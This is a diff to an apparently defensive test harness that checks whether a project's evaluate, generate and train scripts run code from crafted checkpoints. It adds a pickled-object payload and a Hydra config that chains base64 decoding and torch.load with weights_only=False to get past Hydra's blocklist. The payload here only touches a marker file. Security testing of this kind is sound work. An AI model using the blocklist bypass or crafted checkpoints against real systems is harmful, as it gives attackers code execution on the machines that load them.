@@ -154,21 +154,49 @@ def user_folders(csv: Path, work: Path) -> list[tuple]:
     return rows
 
 
+def config_payload(marker: Path) -> dict:
+    """A config node that runs ``touch <marker>`` when instantiated, through callables Hydra's blocklist allows:
+    torch.load(io.BytesIO(base64.b64decode(...)), weights_only=False)."""
+    import base64
+    import io
+
+    pickled = io.BytesIO()
+    torch.save(RunsCode(marker), pickled)
+    blob = {"_target_": "base64.b64decode", "s": base64.b64encode(pickled.getvalue()).decode()}
+    return {"_target_": "torch.load", "f": {"_target_": "io.BytesIO", "initial_bytes": blob}, "weights_only": False}
+
+
 def crafted_checkpoint(reference_run: Path, work: Path) -> list[tuple]:
-    """A .ckpt that runs a shell command when unpickled, given to each script that reads checkpoints."""
+    """A .ckpt that runs a shell command when loaded, given to each script that reads checkpoints: once as a pickled
+    object, once as a config it carries that would build one (``model.discriminator``)."""
     marker = work / "code-ran"
     saved = torch.load(reference_run / "checkpoints" / "last.ckpt", weights_only=True)
-    evil = work / "shared.ckpt"
-    torch.save({**saved, "payload": RunsCode(marker)}, evil)
     rows = []
-    for script, *args in (("evaluate.py", evil), ("generate.py", evil, "samples"), ("train.py", f"resume={evil}")):
-        done = subprocess.run(
-            [sys.executable, str(ROOT / "scripts" / script), *map(str, args)], cwd=work, capture_output=True, text=True
-        )
-        said = done.stderr.strip().splitlines()[-1].replace(str(work), "WORK")
-        ran = "THE COMMAND RAN" if marker.exists() else "the command did not run"
-        rows.append((f"crafted `.ckpt` that runs a command, `{script}`", f"exit {done.returncode}: `{said}`", ran, "-"))
-        marker.unlink(missing_ok=True)
+    for how in ("pickled object", "carried config"):
+        evil = work / "shared.ckpt"
+        if how == "pickled object":
+            torch.save({**saved, "payload": RunsCode(marker)}, evil)
+        else:
+            config = {**saved["config"], "model": {**saved["config"]["model"], "discriminator": config_payload(marker)}}
+            torch.save({**saved, "config": config}, evil)
+        for script, *args in (("evaluate.py", evil), ("generate.py", evil, "samples"), ("train.py", f"resume={evil}")):
+            done = subprocess.run(
+                [sys.executable, str(ROOT / "scripts" / script), *map(str, args)],
+                cwd=work,
+                capture_output=True,
+                text=True,
+            )
+            said = done.stderr.strip().splitlines()[-1].replace(str(work), "WORK")
+            ran = "THE COMMAND RAN" if marker.exists() else "the command did not run"
+            rows.append(
+                (
+                    f"crafted `.ckpt` ({how}) that runs a command, `{script}`",
+                    f"exit {done.returncode}: `{said}`",
+                    ran,
+                    "-",
+                )
+            )
+            marker.unlink(missing_ok=True)
     return rows
 
 
